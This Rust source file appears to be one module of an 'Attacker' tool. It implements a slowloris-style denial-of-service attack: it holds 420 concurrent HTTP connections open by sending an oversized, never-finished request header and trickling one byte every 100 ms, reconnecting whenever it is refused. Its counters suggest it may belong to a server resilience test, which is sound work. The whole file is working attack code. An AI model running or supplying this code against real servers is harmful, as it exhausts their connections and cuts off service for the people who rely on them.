//! Heads of requests: as long as the house reads them, said so slowly that they never end.

use super::Attacker;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::interval;

const AT_ONCE: usize = 420;
const LONG: usize = 15 * 1024;

pub(super) async fn attack(attacker: Attacker) {
    let mut tasks = JoinSet::new();
    for _ in 0..AT_ONCE {
        let attacker = attacker.clone();
        tasks.spawn(async move {
            loop {
                let Ok(mut stream) = attacker.connect().await else {
                    attacker.tally.refused();
                    continue;
                };
                let head = format!("GET / HTTP/1.1\r\nx: {}", "x".repeat(LONG));
                let mut said = stream.write_all(head.as_bytes()).await;
                let mut ticks = interval(Duration::from_millis(100));
                while said.is_ok() {
                    attacker.tally.done();
                    ticks.tick().await;
                    said = stream.write_all(b"x").await;
                }
                attacker.tally.refused();
            }
        });
    }
    attacker.goes_on(tasks).await;
}
